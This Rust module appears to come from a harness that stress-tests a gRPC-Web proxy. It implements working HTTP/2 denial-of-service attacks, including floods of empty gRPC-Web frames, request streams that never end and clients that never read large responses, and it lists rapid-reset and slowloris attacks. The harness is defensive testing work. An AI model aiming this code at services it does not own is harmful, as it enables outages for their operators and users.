//! The attacks, each bounded by [`Context::until`] and by a fixed number of connections
//! and streams, each returning a line saying what the attacker saw. This file holds the
//! attacks that speak well-formed HTTP/2 through the `h2` crate (large bodies, bodies that
//! never end, responses never read); `raw` writes frames by hand, `metrics` poisons the
//! metrics labels.

mod metrics;
mod raw;

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context as _, bail};
use bytes::Bytes;
use grpcweb_interop::pb;
use grpcweb_protocol::framing::{FrameDecoder, FrameKind, encode_frame};
use grpcweb_protocol::{Status, trailers};
use prost::Message as _;
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::probe::{connect, grpc_web_request, read_to_end};

/// Gives an attack's tasks time to notice the deadline and report.
const REPORT_GRACE: Duration = Duration::from_millis(500);

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Attack {
    /// No attack: the probe alone (the baseline).
    None,
    /// 24 gRPC-Web unary bodies of 851,968 empty frames each, at once, in rounds.
    EmptyFrames,
    /// Native gRPC streams whose request body never ends.
    NativeEndless,
    /// 8 clients asking for a 16 MiB server stream and never reading it.
    SlowReaders,
    /// Junk, quoted and 60 KiB method paths, then a scrape of /metrics.
    Metrics,
    /// Silent sockets and sockets that send only the start of the HTTP/2 preface.
    Slowloris,
    /// HEADERS immediately followed by RST_STREAM, over and over.
    RapidReset,
    /// SETTINGS and PING frames as fast as the socket takes them, never reading the acks.
    SettingsPing,
    /// Zero-length DATA frames on open streams.
    ZeroData,
}

/// Where to attack and until when.
#[derive(Debug)]
pub(crate) struct Context {
    pub(crate) target: SocketAddr,
    pub(crate) admin: Option<SocketAddr>,
    pub(crate) until: Instant,
}

/// Runs `attack` until `ctx.until`; returns what the attacker saw.
pub(crate) async fn run(attack: Attack, ctx: &Context) -> anyhow::Result<String> {
    match attack {
        Attack::None => {
            tokio::time::sleep_until(ctx.until).await;
            Ok("no attack".to_owned())
        }
        Attack::EmptyFrames => empty_frames(ctx).await,
        Attack::NativeEndless => native_endless(ctx).await,
        Attack::SlowReaders => slow_readers(ctx).await,
        Attack::Metrics => metrics::run(ctx).await,
        Attack::Slowloris => raw::slowloris(ctx).await,
        Attack::RapidReset => raw::rapid_reset(ctx).await,
        Attack::SettingsPing => raw::settings_ping(ctx).await,
        Attack::ZeroData => raw::zero_data(ctx).await,
    }
}

/// Bodies sent at once by [`empty_frames`].
const EMPTY_FRAME_BODIES: usize = 24;
/// Empty frames per body: 4 MiB + 64 KiB of frame headers (the note spells it out).
const EMPTY_FRAMES: usize = 851_968;

/// Rounds of [`EMPTY_FRAME_BODIES`] unary gRPC-Web calls at once, each on its own
/// connection, each body [`EMPTY_FRAMES`] empty data frames; a round starts when the
/// previous one has been answered.
async fn empty_frames(ctx: &Context) -> anyhow::Result<String> {
    let body = Bytes::from(vec![0u8; EMPTY_FRAMES * 5]);
    let mut answers = Tally::default();
    let mut rounds = 0;
    while Instant::now() < ctx.until {
        let mut calls = JoinSet::new();
        for _ in 0..EMPTY_FRAME_BODIES {
            let (target, body) = (ctx.target, body.clone());
            calls.spawn(async move {
                let mut client = connect(target).await?;
                let (response, mut send) = client.send_request(
                    grpc_web_request(target, "/grpc.testing.TestService/UnaryCall")?,
                    false,
                )?;
                // h2 sends it as flow control allows.
                send.send_data(body, true)?;
                outcome(response).await
            });
        }
        answers.join(calls, ctx.until).await;
        rounds += 1;
    }
    Ok(format!(
        "{EMPTY_FRAME_BODIES} bodies of 851,968 empty frames ({:.1} MB each) at once, \
         rounds: {rounds}; answers: {answers}",
        body.len() as f64 / 1e6
    ))
}

/// Connections and streams per connection of [`native_endless`].
const ENDLESS_CONNECTIONS: usize = 4;
const ENDLESS_STREAMS: usize = 50;

/// Native gRPC `StreamingInputCall`s that send one message and never end their request.
/// Counts those the proxy ends (with any status or a reset) before the attack stops.
async fn native_endless(ctx: &Context) -> anyhow::Result<String> {
    let started = Instant::now();
    let message = pb::StreamingInputCallRequest {
        payload: Some(pb::Payload {
            body: vec![0; 16],
            ..pb::Payload::default()
        }),
        ..pb::StreamingInputCallRequest::default()
    };
    let frame = encode_frame(FrameKind::Data, &message.encode_to_vec());
    let mut streams = JoinSet::new();
    for _ in 0..ENDLESS_CONNECTIONS {
        let client = connect(ctx.target).await?;
        for _ in 0..ENDLESS_STREAMS {
            let (mut client, frame, until) = (client.clone(), frame.clone(), ctx.until);
            let request = http::Request::post(format!(
                "http://{}/grpc.testing.TestService/StreamingInputCall",
                ctx.target
            ))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())?;
            streams.spawn(async move {
                client = client.ready().await?;
                let (response, mut send) = client.send_request(request, false)?;
                send.send_data(frame, false)?;
                // Holding `send` keeps the request open until the deadline.
                let ended = tokio::time::timeout_at(until, async {
                    let response = response.await?;
                    let (_, mut body) = response.into_parts();
                    while let Some(chunk) = body.data().await {
                        let _ = body.flow_control().release_capacity(chunk?.len());
                    }
                    anyhow::Ok(())
                })
                .await;
                drop(send);
                anyhow::Ok(ended.is_ok().then(|| started.elapsed()))
            });
        }
    }
    let mut ended = Vec::new();
    let mut total = 0;
    while let Some(result) = streams.join_next().await {
        total += 1;
        if let Ok(Ok(Some(at))) = result {
            ended.push(at);
        }
    }
    ended.sort_unstable();
    let first = ended.first().map_or_else(String::new, |d| {
        format!(", the first after {:.1} s", d.as_secs_f64())
    });
    Ok(format!(
        "{total} native gRPC streams that never finish their request: {} ended by the \
         proxy{first}, {} still open when the attack stopped",
        ended.len(),
        total - ended.len()
    ))
}

/// Clients of [`slow_readers`] and what each asks for.
const SLOW_READERS: usize = 8;
const SLOW_MESSAGES: usize = 512;
const SLOW_MESSAGE_SIZE: i32 = 32 * 1024;

/// [`SLOW_READERS`] clients, each on its own connection, ask for a 16 MiB server stream
/// (gRPC-Web binary) and never read a byte of it, so their windows stay closed.
async fn slow_readers(ctx: &Context) -> anyhow::Result<String> {
    let request = pb::StreamingOutputCallRequest {
        response_parameters: (0..SLOW_MESSAGES)
            .map(|_| pb::ResponseParameters {
                size: SLOW_MESSAGE_SIZE,
                ..pb::ResponseParameters::default()
            })
            .collect(),
        ..pb::StreamingOutputCallRequest::default()
    };
    let body = encode_frame(FrameKind::Data, &request.encode_to_vec());
    let mut readers = JoinSet::new();
    for _ in 0..SLOW_READERS {
        let (target, body, until) = (ctx.target, body.clone(), ctx.until);
        readers.spawn(async move {
            let mut client = connect(target).await?;
            let (response, mut send) = client.send_request(
                grpc_web_request(target, "/grpc.testing.TestService/StreamingOutputCall")?,
                false,
            )?;
            send.send_data(body, true)?;
            let response = tokio::time::timeout_at(until, response)
                .await
                .context("no response headers")??;
            // Never read: the body (and the connection) stay open until the deadline.
            tokio::time::sleep_until(until).await;
            drop((response, client));
            anyhow::Ok(())
        });
    }
    let mut headers = 0;
    while let Some(result) = readers.join_next().await {
        if let Ok(Ok(())) = result {
            headers += 1;
        }
    }
    Ok(format!(
        "{SLOW_READERS} clients asked for {SLOW_MESSAGES} x {} KiB and read nothing; \
         {headers} got response headers",
        SLOW_MESSAGE_SIZE / 1024
    ))
}

/// How calls ended, by label, for attack notes.
#[derive(Debug, Default)]
struct Tally(BTreeMap<String, u64>);

impl Tally {
    fn add(&mut self, label: impl Into<String>) {
        *self.0.entry(label.into()).or_default() += 1;
    }

    /// Adds the outcome of one finished call, as `JoinSet::join_next` gives it.
    fn record(&mut self, joined: Option<Result<anyhow::Result<String>, tokio::task::JoinError>>) {
        match joined {
            Some(Ok(Ok(label))) => self.add(label),
            Some(Ok(Err(e))) => self.add(format!("error ({})", short(&e))),
            Some(Err(_)) => self.add("task failed"),
            None => {}
        }
    }

    /// Adds the outcome of every call in `calls`; those still running at `until` (plus a
    /// short grace) count as `no answer` and are aborted.
    async fn join(&mut self, mut calls: JoinSet<anyhow::Result<String>>, until: Instant) {
        let deadline = until + REPORT_GRACE;
        loop {
            match tokio::time::timeout_at(deadline, calls.join_next()).await {
                Ok(None) => return,
                Ok(joined) => self.record(joined),
                Err(_) => {
                    for _ in 0..calls.len() {
                        self.add("no answer");
                    }
                    calls.abort_all();
                    return;
                }
            }
        }
    }
}

impl std::fmt::Display for Tally {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        if self.0.is_empty() {
            return f.write_str("none");
        }
        let parts: Vec<String> = self.0.iter().map(|(k, n)| format!("{n} {k}")).collect();
        f.write_str(&parts.join(", "))
    }
}

/// The first line of an error, without addresses or long quotes.
fn short(e: &anyhow::Error) -> String {
    let text = e.to_string();
    text.chars().take(60).collect()
}

/// How a gRPC-Web call ended: the status code name, `HTTP n`, or the reset reason.
async fn outcome(response: h2::client::ResponseFuture) -> anyhow::Result<String> {
    let response = response.await?;
    if let Some(status) = Status::from_header_map(response.headers()) {
        return Ok(status.code.name().to_owned());
    }
    if response.status() != http::StatusCode::OK {
        return Ok(format!("HTTP {}", response.status().as_u16()));
    }
    let body = read_to_end(response.into_body(), 16 << 20).await?;
    let mut frames = FrameDecoder::new(16 << 20);
    frames.push(body);
    while let Some(frame) = frames.next_frame()? {
        if frame.kind == FrameKind::Trailers {
            let status = Status::from_entries(trailers::entries(&frame.payload).flatten());
            return Ok(status.map_or_else(|| "no status".to_owned(), |s| s.code.name().to_owned()));
        }
    }
    bail!("no trailer frame")
}
